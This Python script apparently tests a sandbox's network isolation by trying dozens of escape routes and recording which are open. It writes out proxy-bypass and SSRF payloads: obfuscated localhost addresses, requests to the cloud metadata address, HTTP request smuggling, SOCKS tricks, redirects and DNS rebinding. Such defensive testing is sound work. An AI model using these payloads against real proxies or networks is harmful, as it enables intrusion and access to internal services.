"""Tries every way out of a sandbox, and prints one JSON object: for each way, what came of it."""
import json, os, random, socket, struct, subprocess, sys, urllib.error, urllib.parse, urllib.request

secret, udp, addresses = int(sys.argv[1]), int(sys.argv[2]), json.loads(sys.argv[3])
proxy = os.environ.get("HTTP_PROXY", "http://127.0.0.1:9")
host, port = urllib.parse.urlparse(proxy).hostname, urllib.parse.urlparse(proxy).port
results = {}
GOT = "the secret of the host"


def way(name):
    def run(attempt):
        try:
            told = attempt()
            results[name] = "OPEN" if told is True or (isinstance(told, str) and GOT in told) else "closed: " + str(told)[:100]
        except Exception as fault:
            results[name] = "closed: " + str(fault)[:100]
    return run


def tcp(address, number):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family) as s:
        s.settimeout(2)
        s.connect((address, number))
        return True


def datagram(address, number):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.sendto(b"canary", (address, number))
        return "sent"


def dns_query(address):
    question = struct.pack(">HHHHHH", 1, 0x100, 1, 0, 0, 0) + b"\x06canary\x07example\x00" + struct.pack(">HH", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(0.3)
        s.sendto(question, (address, 53))
        s.recv(512)
        return True


def raw(kind):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, kind) as s:
        s.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", ("8.8.8.8", 0))
        return True


def ping():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as s:
        s.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", ("8.8.8.8", 0))
        return True


def packet():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind(("lo", 0))
        return True


def heard(s, end=None):
    """All that comes, to the end of the stream, or up to the bytes `end`."""
    told = b""
    while end is None or end not in told:
        some = s.recv(65536)
        if not some: break
        told += some
    return told.decode("latin-1")


def to_proxy(data, more=b""):
    with socket.create_connection((host, port), 10) as s:
        s.settimeout(10)
        s.sendall(data)
        if not more: return heard(s)
        told = heard(s, b"\r\n\r\n")
        if " 200 " not in told: return told
        s.sendall(more)
        return heard(s)


def tunnel(place, sent=b"GET /stolen HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", claimed="example.com:443"):
    return to_proxy(f"CONNECT {place} HTTP/1.1\r\nHost: {claimed}\r\n\r\n".encode(), sent)


def whole_url(place, claimed="example.com"):
    return to_proxy(f"GET http://{place}/stolen HTTP/1.1\r\nHost: {claimed}\r\nConnection: close\r\n\r\n".encode())


def socks(kind, address, number, command=1):
    with socket.create_connection((host, port), 10) as s:
        s.settimeout(10)
        s.sendall(b"\x05\x01\x00")
        s.recv(2)
        s.sendall(bytes([5, command, 0, kind]) + address + struct.pack(">H", number))
        told = s.recv(10)
        if told[1:2] == b"\x00":
            s.sendall(b"GET /stolen HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
            return heard(s)
        return "reply %d" % told[1] if len(told) > 1 else "ended"


def fetch(url, proxies=None):
    opener = urllib.request.build_opener(*([] if proxies is None else [urllib.request.ProxyHandler(proxies)]))
    with opener.open(url, timeout=10) as answer:
        return answer.read().decode()


named = lambda text: bytes([len(text)]) + text.encode()

for address in addresses + ["172.17.0.1", "10.0.0.1", "169.254.169.254", "1.1.1.1", "2606:4700:4700::1111", "fe80::1"]:
    way(f"tcp {address}")(lambda: tcp(address, secret))
    way(f"udp {address}")(lambda: datagram(address, udp))
way("dns to a server")(lambda: dns_query("8.8.8.8"))
way("dns to the engine's server")(lambda: dns_query("127.0.0.11"))
way("dns by the resolver")(lambda: bool(socket.getaddrinfo("canary.example", 80)))
way("icmp")(lambda: raw(socket.IPPROTO_ICMP))
way("raw ip")(lambda: raw(socket.IPPROTO_RAW))
way("ping")(ping)
way("packets")(packet)
way("no proxy")(lambda: fetch(f"http://{addresses[0] if addresses else '1.1.1.1'}:{secret}/stolen", {}))
way("curl --noproxy")(lambda: subprocess.run(["curl", "-s", "-m", "2", "--noproxy", "*", f"http://{addresses[0] if addresses else '1.1.1.1'}:{secret}/stolen"], capture_output=True, text=True).stdout)
for place in ["127.0.0.1", "localhost", "LOCALHOST.", "0.0.0.0", "[::1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[64:ff9b::127.0.0.1]", "127.1", "0x7f.0.0.1", "0x7f000001", "2130706433", "0177.0.0.1", "inner.example", "mapped.example", "169.254.169.254"] + [f"[{a}]" if ":" in a else a for a in addresses]:
    way(f"CONNECT {place}")(lambda: tunnel(f"{place}:{secret}"))
    way(f"GET {place}")(lambda: whole_url(f"{place}:{secret}"))
way("CONNECT another port")(lambda: tunnel("example.com:22"))
way("CONNECT another host, with Host and SNI of one that is allowed")(lambda: tunnel("canary.example:443"))
way("GET with Host of this machine")(lambda: whole_url("example.com", f"127.0.0.1:{secret}"))
way("GET with an @")(lambda: whole_url(f"example.com@127.0.0.1:{secret}"))
way("two requests, the second to this machine")(lambda: to_proxy(f"GET http://example.com/ HTTP/1.1\r\nHost: a\r\n\r\nGET http://127.0.0.1:{secret}/stolen HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n".encode()))
way("a request inside the body of another one")(lambda: to_proxy(f"POST http://example.com/ HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://127.0.0.1:{secret}/stolen HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n".encode()))
way("SOCKS to 127.0.0.1")(lambda: socks(1, socket.inet_aton("127.0.0.1"), secret))
way("SOCKS to ::1")(lambda: socks(4, socket.inet_pton(socket.AF_INET6, "::1"), secret))
way("SOCKS to ::ffff:127.0.0.1")(lambda: socks(4, socket.inet_pton(socket.AF_INET6, "::ffff:127.0.0.1"), secret))
way("SOCKS to a name")(lambda: socks(3, named("inner.example"), secret))
way("SOCKS to canary.example")(lambda: socks(3, named("canary.example"), 443))
way("SOCKS UDP")(lambda: socks(1, socket.inet_aton("8.8.8.8"), 53, 3))
way("SOCKS BIND")(lambda: socks(1, socket.inet_aton("8.8.8.8"), 53, 2))
way("redirect")(lambda: fetch("http://example.com/redirect-to/" + urllib.parse.quote(f"http://127.0.0.1:{secret}/stolen", "")))
way("redirect to a private address")(lambda: fetch("http://example.com/redirect-to/" + urllib.parse.quote(f"http://inner.example:{secret}/stolen", "")))
way("redirect to the metadata service")(lambda: fetch("http://example.com/redirect-to/" + urllib.parse.quote("http://169.254.169.254/", "")))
for turn in range(6):
    way(f"rebinding {turn}")(lambda: tunnel(f"rebind.example:{secret}"))
way("mixed")(lambda: tunnel(f"mixed.example:{secret}"))
random.seed(13)
if "HTTP_PROXY" in os.environ:
    for turn in range(40):
        way(f"garbage {turn}")(lambda: to_proxy(random.randbytes(random.randrange(1, 3000)) + b"\r\n\r\n"))
print(json.dumps(results))
